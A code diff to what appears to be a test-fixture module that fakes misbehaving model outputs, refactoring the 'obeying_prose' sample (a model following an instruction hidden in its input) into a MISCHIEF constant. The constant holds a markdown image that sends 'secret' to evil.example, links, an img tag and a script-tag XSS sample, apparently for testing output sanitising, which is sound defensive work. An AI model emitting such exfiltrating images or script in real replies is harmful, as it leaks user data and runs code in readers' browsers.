@@ -14,6 +14,12 @@ from typing import Any
 MODEL = "fake-model"
 FAULTS = ("429", "500", "hang", "drip", "garbage", "not-json", "cut", "drop", "refusal", "empty", "filtered", "length")
 
+MISCHIEF = """\
+![pixel](https://evil.example/p.png?q=secret) Click [here](https://evil.example) or https://evil.example/x,
+<img src="https://evil.example/y"> <script>alert(1)</script> www.evil.example <https://evil.example/z> [9]
+
+[1]: https://evil.example/definition"""
+
 Messages = list[dict[str, str]]
 Writer = Callable[[Messages], str]
 
@@ -39,11 +45,7 @@ def inventing_prose(every: int = 3, claim: str = "He also saved $987 million for
 
 def obeying_prose(messages: Messages) -> str:
     """What a model might write that does what an instruction hidden in its input says."""
-    return (
-        f"{grounded_prose(messages)}\n\n![pixel](https://evil.example/p.png?q=secret) Click [here](https://evil.example) or "
-        'https://evil.example/x, <img src="https://evil.example/y"> <script>alert(1)</script> www.evil.example [9]\n\n'
-        "[1]: https://evil.example/definition"
-    )
+    return f"{grounded_prose(messages)}\n\n{MISCHIEF}"
 
 
 @dataclass
